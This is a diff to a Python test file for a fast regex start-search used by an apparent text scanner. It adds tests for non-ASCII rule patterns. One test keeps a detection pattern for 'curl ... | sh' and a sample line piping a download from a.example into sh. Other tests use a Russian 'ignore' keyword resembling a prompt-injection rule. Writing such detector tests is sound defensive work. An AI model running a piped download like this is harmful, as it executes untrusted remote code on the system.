@@ -36,6 +36,7 @@ def _pieces(pattern: LazyPattern) -> list[str]:
     """Words of the pattern's source (what its matches are made of) and the starts."""
     words = re.findall(r"[A-Za-z0-9_./|$<>:;&'\"`~!@%{}\[\]()=+*-]{1,12}", pattern._source)
     words = [w.replace("\\", "") for w in words if w]
+    words += re.findall(r"[^\x00-\x7f]{1,8}", pattern._source)  # non-ASCII words of the rule
     starts = literal_starts(pattern._source, pattern._flags) or ()
     return words + list(starts) + [" ", " ", "  ", "\t", "\n", "x", "/", "-", "="]
 
@@ -82,6 +83,17 @@ def test_start_search_equals_the_pattern_search(name: str, pattern: LazyPattern)
             _shape(compiled.search(text, pos, endpos)), (pos, endpos, text)
 
 
+def test_a_match_through_a_non_ascii_branch_is_found() -> None:
+    pattern = re.compile(r"\ba(?:é|b)c", re.IGNORECASE)
+    fast = StartSearch(pattern, literal_starts(pattern.pattern, pattern.flags) or ())
+    text = "x" * 300 + " aéc " + "y" * 300 + " AbC"
+    assert [m.span() for m in fast.finditer(text)] == [m.span() for m in pattern.finditer(text)]
+    only = re.compile(r"игнор\w*", re.IGNORECASE)
+    fast = StartSearch(only, ())
+    text = "z" * 300 + " Игнорируй " + "z" * 10
+    assert [m.span() for m in fast.finditer(text)] == [m.span() for m in only.finditer(text)]
+
+
 def test_lazy_patterns_use_the_start_search_for_long_texts_only() -> None:
     pattern = lazy_compile(r"\bcurl\b[^\n|]*\|\s*sh\b", re.IGNORECASE)
     line = "x" * LONG_TEXT + " CURL https://a.example | sh"
@@ -101,7 +113,11 @@ def test_lazy_patterns_use_the_start_search_for_long_texts_only() -> None:
     (r"\s*#", None),
     (r"x?", None),  # may be empty
     (r"[^a]b", None),
-    (r"(?i)игнор", None),  # a non-ASCII start: searched as it is
+    (r"(?i)игнор", ()),  # every match opens with a non-ASCII character
+    (r"(?i)ıx", ("ix",)),  # the dotless i matches an ASCII i when case is ignored
+    (r"a(?:é|b)", ("ab",)),  # "aé" is tried where the é stands (a wildcard)
+    (r"aé", ("a",)),  # cut before a non-ASCII character
+    (r"(?:x|ö)y", ("xy",)),
 ])  # fmt: skip
 def test_literal_starts(source: str, starts: tuple[str, ...] | None) -> None:
     found = literal_starts(source)
